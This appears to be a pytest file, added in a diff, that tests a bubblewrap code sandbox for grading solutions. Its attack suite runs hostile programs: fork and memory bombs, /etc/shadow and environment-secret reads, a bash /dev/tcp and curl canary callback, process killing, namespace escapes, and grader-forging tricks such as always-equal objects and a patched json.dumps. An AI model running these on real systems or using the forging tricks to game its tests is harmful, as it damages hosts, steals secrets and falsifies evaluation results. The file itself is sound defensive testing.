@@ -1,0 +1,426 @@
+"""The code sandbox: rule tables for test parsing, code extraction and output
+comparison; positive controls; and the attack suite, every attack judged from
+outside (host files, a canary listener, a victim process, leftover processes,
+wall time, the verdict), never from what the program says about itself."""
+import json
+import os
+import secrets
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+import pytest
+
+from transforms.sandbox import (
+    UID_BASE,
+    Sandbox,
+    SandboxConfig,
+    CodeTests,
+    extract_code,
+    outputs_match,
+    parse_tests,
+    run_tests,
+    values_match,
+)
+
+#: The wall-clock limit of attack runs (positive controls get more room).
+LIMIT_S = 1.0
+
+
+def _pid_namespace(pid) -> str:
+    try:
+        return os.readlink(f"/proc/{pid}/ns/pid")
+    except OSError:
+        return ""
+
+
+def _sandbox_processes(baseline=frozenset()) -> set:
+    """Live processes in a PID namespace other than ours or owned by a sandbox user."""
+    mine = _pid_namespace("self")
+    found = set()
+    for name in os.listdir("/proc"):
+        if not name.isdigit() or int(name) in baseline:
+            continue
+        try:
+            with open(f"/proc/{name}/status") as fh:
+                status = fh.read()
+        except OSError:
+            continue
+        if "State:\tZ" in status:
+            continue
+        uid = int(status.split("Uid:\t", 1)[1].split()[0])
+        namespace = _pid_namespace(name)
+        if uid >= UID_BASE or (namespace and namespace != mine):
+            found.add(int(name))
+    return found
+
+
+class RecordingSandbox(Sandbox):
+    """A Sandbox that keeps every RunResult, so the test can look at the outputs."""
+
+    def __init__(self, config):
+        super().__init__(config)
+        self.runs = []
+
+    def run(self, *args, **kwargs):
+        result = super().run(*args, **kwargs)
+        self.runs.append(result)
+        return result
+
+
+def _working_sandbox(config) -> "RecordingSandbox":
+    """A sandbox that runs here: skipped without bubblewrap (the Makefile installs it),
+    failed if bubblewrap is there but the sandbox doesn't work."""
+    if shutil.which(config.bwrap) is None:
+        pytest.skip("bubblewrap is not installed (make sandbox)")
+    box = RecordingSandbox(config)
+    assert box.unavailable() is None
+    return box
+
+
+@pytest.fixture(scope="module")
+def sandbox():
+    return _working_sandbox(SandboxConfig(timeout_s=LIMIT_S, max_output_kb=256))
+
+
+@pytest.fixture(scope="module")
+def roomy():
+    return _working_sandbox(SandboxConfig(timeout_s=10.0))
+
+
+# -- rule tables ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("spec,expected", [
+    ({"inputs": ["1 2\n"], "outputs": ["3\n"]}, CodeTests("stdin", [("1 2\n", "3\n")])),
+    ({"inputs": [[1, 2]], "outputs": [[3]], "fn_name": "add"}, CodeTests("call", [([1, 2], [3])], "add")),
+    ({"inputs": [5], "outputs": [25], "fn_name": "sq"}, CodeTests("call", [([5], 25)], "sq")),
+    ([{"input": "4\n", "output": "16\n", "testtype": "stdin"}], CodeTests("stdin", [("4\n", "16\n")])),
+    ({"fn_name": "f", "tests": [{"input": "[1, 2]\n3", "output": "6", "testtype": "functional"}]},
+     CodeTests("call", [([[1, 2], 3], 6)], "f")),
+    (json.dumps({"inputs": [["a", "b"]], "outputs": [["a\n", "b"]]}), CodeTests("stdin", [("a\nb", "a\n\nb")])),
+])
+def test_parse_tests(spec, expected):
+    assert parse_tests(spec) == expected
+
+
+@pytest.mark.parametrize("spec", [
+    "not json", {"inputs": [1]}, {"inputs": [1, 2], "outputs": [1]}, 42,
+    [{"input": "1", "output": "1", "testtype": "functional"}],  # no fn_name
+])
+def test_parse_tests_rejects_bad_specs(spec):
+    with pytest.raises(ValueError):
+        parse_tests(spec)
+
+
+@pytest.mark.parametrize("text,expected", [
+    ("Here:\n```python\nprint(1)\n```", "print(1)\n"),
+    ("```py\na = 1\n```\nthen\n```python\nb = 2\n```", "b = 2\n"),
+    ("```\nprint(3)\n```", "print(3)\n"),
+    ("```python\nx\n```\n```text\nsample output\n```", "x\n"),
+    ("<think>```python\nwrong()\n```</think>\nFinal:\n```python\nright()\n```", "right()\n"),
+    ("<think>```python\nonly_thinking()\n```</think>\nNo code here.", None),
+    ("print(1)", None),
+    ("", None),
+])
+def test_extract_code(text, expected):
+    assert extract_code(text) == expected
+
+
+@pytest.mark.parametrize("actual,expected,match", [
+    ("3\n", "3", True),
+    ("1 2 3  \n\n", "1 2 3\n", True),
+    ("0.3333333333\n", "0.333333333", True),
+    ("1\n2\n", "1 2", True),
+    ("3\n", "4\n", False),
+    ("", "3", False),
+    ("PASS\n", "3\n", False),
+    ("1.5\n", "1.6\n", False),
+])
+def test_outputs_match(actual, expected, match):
+    assert outputs_match(actual, expected) is match
+
+
+@pytest.mark.parametrize("actual,expected,match", [
+    (3, 3, True), (3, [3], True), ([1, 2], [1, 2], True), (0.1 + 0.2, 0.3, True),
+    ({"a": [1]}, {"a": [1]}, True), (True, 1, False), (1, True, False), ("3", 3, False),
+    ([1, 2], [2, 1], False), (None, 0, False), ([3], 3, False),
+])
+def test_values_match(actual, expected, match):
+    assert values_match(actual, expected) is match
+
+
+def test_missing_bubblewrap_is_infra_unavailable():
+    box = Sandbox(SandboxConfig(bwrap="/nonexistent/bwrap"))
+    assert "not found" in box.unavailable()
+    suite = CodeTests("stdin", [("", "1\n")])
+    assert run_tests("print(1)", suite, box)[0] == "infra_unavailable"
+
+
+# -- positive controls ---------------------------------------------------------------
+
+POSITIVE = {
+    "echo_stdin": ("import sys\nprint(sys.stdin.read().strip()[::-1])", "abc\n", "cba\n"),
+    "import_numpy": ("import numpy as np\nprint(int(np.arange(int(input())).sum()))", "5\n", "10\n"),
+    "multiprocessing_pool": (
+        "import multiprocessing as mp\n"
+        "def sq(x):\n    return x * x\n"
+        "if __name__ == '__main__':\n"
+        "    with mp.Pool(2) as pool:\n        print(sum(pool.map(sq, range(int(input())))))",
+        "4\n", "14\n"),
+    "write_work_dir": (
+        "import os\nopen('out.txt', 'w').write(input() * 3)\nos.makedirs('d/e')\n"
+        "open('/tmp/t', 'w').write('x')\nprint(open('out.txt').read(), os.getcwd())",
+        "ab\n", "ababab /home/sandbox\n"),
+    "threads": (
+        "import threading\nout = []\nts = [threading.Thread(target=out.append, args=(i,)) for i in range(8)]\n"
+        "[t.start() for t in ts]\n[t.join() for t in ts]\nprint(sum(out))", "", "28\n"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(POSITIVE))
+def test_positive_controls_pass(roomy, name):
+    source, stdin, expected = POSITIVE[name]
+    assert run_tests(source, CodeTests("stdin", [(stdin, expected)]), roomy) == ("correct", "passed 1/1 tests")
+
+
+def test_call_based_solution_passes_and_wrong_one_fails(roomy):
+    suite = parse_tests({"fn_name": "twoSum", "inputs": [[[2, 7, 11], 9], [[3, 3], 6]], "outputs": [[[0, 1]], [[0, 1]]]})
+    good = ("class Solution:\n    def twoSum(self, nums, target):\n"
+            "        seen = {}\n        for i, n in enumerate(nums):\n"
+            "            if target - n in seen:\n                return [seen[target - n], i]\n"
+            "            seen[n] = i\n")
+    assert run_tests(good, suite, roomy) == ("correct", "passed 2/2 tests")
+    assert run_tests("def twoSum(nums, target):\n    return [1, 0]", suite, roomy)[0] == "incorrect"
+    assert run_tests("def other(): pass", suite, roomy)[0] == "incorrect"
+    assert run_tests("def twoSum(:", suite, roomy)[0] == "incorrect"  # a syntax error is the solution's
+
+
+def test_runs_are_independent_across_threads(sandbox, roomy):
+    """A fork bomb in one thread doesn't starve a Pool(2) in another (per-run process limits)."""
+    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
+    source, stdin, expected = POSITIVE["multiprocessing_pool"]
+    verdicts = {}
+    bomber = threading.Thread(target=lambda: verdicts.update(bomb=run_tests(bomb, CodeTests("stdin", [("", "x")]),
+                                                                             sandbox)))
+    bomber.start()
+    time.sleep(0.3)
+    verdicts["pool"] = run_tests(source, CodeTests("stdin", [(stdin, expected)]), roomy)
+    bomber.join()
+    assert verdicts["pool"][0] == "correct"
+    assert verdicts["bomb"][0] in ("timeout", "incorrect")
+
+
+# -- the attack suite ----------------------------------------------------------------
+
+LOOP = "while True:\n    pass"
+FORGE_STDOUT = "print('PASS')\nprint('All tests passed')\nimport sys\nsys.exit(0)"
+
+#: name → (mode, source). Placeholders: SECRET_FILE, HOST_DIR, PORT, UDP_PORT, VICTIM,
+#: PARENT. ``call`` attacks define ``solve`` and are called with one argument list.
+ATTACKS = {
+    "infinite_loop": ("stdin", LOOP),
+    "sleep": ("stdin", "import time\ntime.sleep(1000)"),
+    "ignore_sigterm_and_loop": ("stdin", "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n" + LOOP),
+    "memory_bomb_one_block": ("stdin", "x = bytearray(64 * 1024 ** 3)\nprint(len(x))"),
+    "memory_bomb_growing": ("stdin", "xs = []\nwhile True:\n    xs.append(bytearray(50 * 1024 ** 2))"),
+    "fork_bomb": ("stdin", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
+    "fork_bomb_sleepers": ("stdin", "import os, time\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
+                                    "            time.sleep(1000)\n    except OSError:\n        pass\ntime.sleep(1000)"),
+    "thread_bomb": ("stdin", "import threading, time\nwhile True:\n    try:\n"
+                             "        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\n"
+                             "    except RuntimeError:\n        pass"),
+    "raise_limits_then_fork": ("stdin", "import os, resource\n"
+                                        "for r in (resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_AS):\n"
+                                        "    try:\n        resource.setrlimit(r, (resource.RLIM_INFINITY,) * 2)\n"
+                                        "    except (ValueError, OSError):\n        pass\n"
+                                        "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
+    "fd_exhaustion": ("stdin", "fs = []\nwhile True:\n    fs.append(open('/dev/null'))"),
+    "disk_fill_one_file": ("stdin", "with open('big', 'wb') as f:\n    while True:\n        f.write(b'x' * 2 ** 20)"),
+    "disk_fill_many_files": ("stdin", "i = 0\nwhile True:\n    open(f'f{i}', 'wb').write(b'x' * 2 ** 20)\n    i += 1"),
+    "tmp_and_shm_fill": ("stdin", "i = 0\nwhile True:\n    for d in ('/tmp', '/dev/shm'):\n"
+                                  "        open(f'{d}/f{i}', 'wb').write(b'x' * 2 ** 20)\n    i += 1"),
+    "stdout_flood": ("stdin", "while True:\n    print('x' * 10000)"),
+    "stderr_flood": ("stdin", "import sys\nwhile True:\n    sys.stderr.write('y' * 10000)"),
+    "env_secrets": ("stdin", "import os\nprint(dict(os.environ))"),
+    "proc_environ_secrets": ("stdin", "import os\nfor p in os.listdir('/proc'):\n    try:\n"
+                                      "        print(p, open(f'/proc/{p}/environ', 'rb').read())\n"
+                                      "        print(p, open(f'/proc/{p}/cmdline', 'rb').read())\n"
+                                      "    except OSError as e:\n        print(p, e)"),
+    "host_file_read": ("stdin", "import glob\nfor path in ['SECRET_FILE', '/etc/shadow', '/etc/passwd', '/root/.bashrc',\n"
+                                "             'PROJECT/setup.py', *glob.glob('/work*/**', recursive=True)[:50]]:\n"
+                                "    try:\n        print(path, open(path).read()[:200])\n"
+                                "    except OSError as e:\n        print(path, e)"),
+    "host_file_write": ("stdin", "import os, sys\n"
+                                 "for path in ['HOST_DIR/pwned', '/tmp/HOST_TOKEN', 'PROJECT/pwned',\n"
+                                 "             sys.prefix + '/pwned', '/usr/pwned', '/etc/pwned']:\n"
+                                 "    try:\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
+                                 "        open(path, 'w').write('pwned')\n    except OSError as e:\n        print(e)"),
+    "loopback_canary": ("stdin", "import socket\nfor host in ('127.0.0.1', 'localhost', '::1', 'HOST_IP'):\n"
+                                 "    try:\n        s = socket.create_connection((host, PORT), timeout=0.5)\n"
+                                 "        s.sendall(b'escaped')\n    except OSError as e:\n        print(host, e)"),
+    "udp_canary": ("stdin", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                            "for host in ('127.0.0.1', 'HOST_IP'):\n    try:\n"
+                            "        s.sendto(b'escaped', (host, UDP_PORT))\n    except OSError as e:\n        print(e)"),
+    "shell_tcp_canary": ("stdin", "import subprocess\nsubprocess.run(['bash', '-c', 'echo escaped > /dev/tcp/127.0.0.1/PORT'],"
+                                  " timeout=1)\nsubprocess.run(['sh', '-c', 'curl -s http://127.0.0.1:PORT/ || true'],"
+                                  " timeout=1)"),
+    "kill_parent": ("stdin", "import os, signal\nfor pid in (os.getppid(), 1, PARENT, VICTIM):\n    try:\n"
+                             "        os.kill(pid, signal.SIGKILL)\n    except OSError as e:\n        print(pid, e)"),
+    "kill_everything": ("stdin", "import os, signal\nos.kill(-1, signal.SIGKILL)\nprint('survived')"),
+    "double_fork_daemon": ("stdin", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+                                    "        while True:\n            open('/tmp/alive', 'w').write(str(time.time()))\n"
+                                    "            time.sleep(0.1)\n    os._exit(0)\nprint('parent done')"),
+    "detached_subprocess": ("stdin", "import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True,\n"
+                                     "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)"),
+    "exit_zero_before_tests": ("stdin", "import os\nos._exit(0)"),
+    "forge_pass_stdout": ("stdin", FORGE_STDOUT),
+    "exit_zero_before_calls": ("call", "import os\nos._exit(0)\ndef solve(x):\n    return x"),
+    "always_equal_object": ("call", "class Eq:\n    def __eq__(self, other):\n        return True\n"
+                                    "    def __ne__(self, other):\n        return False\n"
+                                    "def solve(x):\n    return Eq()"),
+    "always_equal_str_subclass": ("call", "class S(str):\n    def __eq__(self, other):\n        return True\n"
+                                          "def solve(x):\n    return S('nope')"),
+    "frame_walk_forge": ("call", "import sys, json\n"
+                                 "def solve(x):\n    f = sys._getframe(1)\n"
+                                 "    while f is not None:\n        for k in list(f.f_locals):\n"
+                                 "            if k in ('dumps', 'write', 'expected', 'cases'):\n"
+                                 "                f.f_locals[k] = None\n        f = f.f_back\n"
+                                 "    for fd in range(3, 20):\n        try:\n"
+                                 "            import os\n            os.write(fd, b'{\"i\": 0, \"value\": \"PASS\"}\\n')\n"
+                                 "        except OSError:\n            pass\n"
+                                 "    json.dumps = lambda *a, **k: '{\"i\": 0, \"value\": true, \"passed\": true}'\n"
+                                 "    return 'PASS'"),
+    "ctypes_escapes": ("stdin", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+                                "print('unshare', libc.unshare(0x10000000 | 0x40000000), ctypes.get_errno())\n"
+                                "print('setuid', libc.setuid(0), os.getuid())\n"
+                                "print('mount', libc.mount(b'none', b'/usr', b'tmpfs', 0, None), ctypes.get_errno())\n"
+                                "print('chroot', libc.chroot(b'/tmp'), ctypes.get_errno())\n"
+                                "print('ptrace', libc.ptrace(16, 1, None, None), ctypes.get_errno())\n"
+                                "print('reboot', libc.reboot(0x4321fedc), ctypes.get_errno())\n"
+                                "open('/usr/pwned', 'w')"),
+    "posix_escapes": ("stdin", "import os\nfor name, call in [('setns', lambda: os.setns(os.open('/proc/1/ns/mnt', 0))),\n"
+                               "    ('chroot', lambda: os.chroot('/')), ('setuid', lambda: os.setuid(0)),\n"
+                               "    ('sysctl', lambda: open('/proc/sys/kernel/hostname', 'w').write('x')),\n"
+                               "    ('mknod', lambda: os.mknod('/home/sandbox/sda', 0o600 | 0o60000, os.makedev(8, 0))),\n"
+                               "    ('sys', lambda: os.listdir('/sys'))]:\n"
+                               "    try:\n        print(name, call())\n    except Exception as e:\n"
+                               "        print(name, type(e).__name__, e)\n"
+                               "open('HOST_DIR/posix_pwned', 'w')"),
+    "ctypes_segfault": ("stdin", "import ctypes\nctypes.string_at(0)"),
+    "tty_injection": ("stdin", "import fcntl, termios, os\nfor fd in (0, 1, 2):\n    try:\n"
+                               "        fcntl.ioctl(fd, termios.TIOCSTI, b'x')\n    except OSError as e:\n        print(e)\n"
+                               "fd = os.open('/dev/tty', os.O_RDWR)"),
+    "symlink_out": ("stdin", "import os\nos.symlink('SECRET_FILE', 'link')\nprint(open('link').read())"),
+}
+
+
+@pytest.fixture(scope="module")
+def canary():
+    """A TCP listener on 127.0.0.1 and one on every address, plus a UDP socket;
+    ``hits`` collects whatever reaches them."""
+    hits = []
+    tcp_local = socket.socket()
+    tcp_local.bind(("127.0.0.1", 0))
+    port = tcp_local.getsockname()[1]
+    tcp_any = socket.socket()
+    tcp_any.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    try:
+        tcp_any.bind(("0.0.0.0", port))
+    except OSError:
+        tcp_any.bind(("0.0.0.0", 0))
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("0.0.0.0", 0))
+    for s in (tcp_local, tcp_any):
+        s.listen(8)
+        s.settimeout(0.2)
+    udp.settimeout(0.2)
+    stop = threading.Event()
+
+    def watch(sock, kind):
+        while not stop.is_set():
+            try:
+                if kind == "udp":
+                    hits.append(sock.recvfrom(100))
+                else:
+                    conn, addr = sock.accept()
+                    hits.append(addr)
+                    conn.close()
+            except OSError:
+                continue
+
+    threads = [threading.Thread(target=watch, args=(s, k), daemon=True)
+               for s, k in ((tcp_local, "tcp"), (tcp_any, "tcp"), (udp, "udp"))]
+    for t in threads:
+        t.start()
+    yield {"hits": hits, "port": port, "udp_port": udp.getsockname()[1]}
+    stop.set()
+    for t in threads:
+        t.join()
+    for s in (tcp_local, tcp_any, udp):
+        s.close()
+
+
+@pytest.fixture(scope="module")
+def victim():
+    """A host process of ours that no sandboxed program may kill."""
+    process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # VICTIM-MARKER"])
+    yield process
+    process.kill()
+    process.wait()
+
+
+def _host_ip() -> str:
+    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        probe.connect(("10.255.255.255", 1))
+        return probe.getsockname()[0]
+    except OSError:
+        return "127.0.0.1"
+    finally:
+        probe.close()
+
+
+@pytest.mark.parametrize("name", sorted(ATTACKS))
+def test_attack_is_contained(sandbox, canary, victim, tmp_path, monkeypatch, name):
+    mode, source = ATTACKS[name]
+    secret = secrets.token_hex(16)
+    monkeypatch.setenv("SANDBOX_TEST_SECRET", secret)
+    secret_file = tmp_path / "secret.txt"
+    secret_file.write_text(secret)
+    host_token = f"sandbox-attack-{secret}"
+    project = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+    for key, value in {"SECRET_FILE": str(secret_file), "HOST_DIR": str(tmp_path), "HOST_TOKEN": host_token,
+                       "UDP_PORT": str(canary["udp_port"]), "PORT": str(canary["port"]), "VICTIM": str(victim.pid),
+                       "PARENT": str(os.getpid()), "PROJECT": project, "HOST_IP": _host_ip()}.items():
+        source = source.replace(key, value)
+    expected = secrets.token_hex(8)  # nothing inside the sandbox can know it
+    suite = (CodeTests("call", [([1], expected)], "solve") if mode == "call"
+             else CodeTests("stdin", [("", expected + "\n")]))
+    hits_before, runs_before = len(canary["hits"]), len(sandbox.runs)
+    host_files_before = set(os.listdir(tmp_path))
+
+    started = time.monotonic()
+    verdict, reason = run_tests(source, suite, sandbox)
+    elapsed = time.monotonic() - started
+
+    run = sandbox.runs[runs_before]
+    seen = run.stdout + run.stderr + json.dumps(run.results).encode()
+    assert verdict in ("incorrect", "timeout"), (verdict, reason)
+    assert elapsed <= LIMIT_S + 1.0, elapsed
+    assert secret.encode() not in seen, "a secret reached the sandbox"
+    assert b"VICTIM-MARKER" not in seen, "host processes are visible"
+    assert canary["hits"][hits_before:] == [], "the canary listener was reached"
+    assert set(os.listdir(tmp_path)) == host_files_before, "a host file was written"
+    for path in (f"/tmp/{host_token}", os.path.join(project, "pwned"), os.path.join(sys.prefix, "pwned"),
+                 "/usr/pwned", "/etc/pwned"):
+        assert not os.path.exists(path), path
+    assert victim.poll() is None, "a host process was killed"
+    assert _sandbox_processes() == set(), "processes outlived the run"
+
+
+def test_attack_suite_is_large_enough():
+    assert len(ATTACKS) >= 30
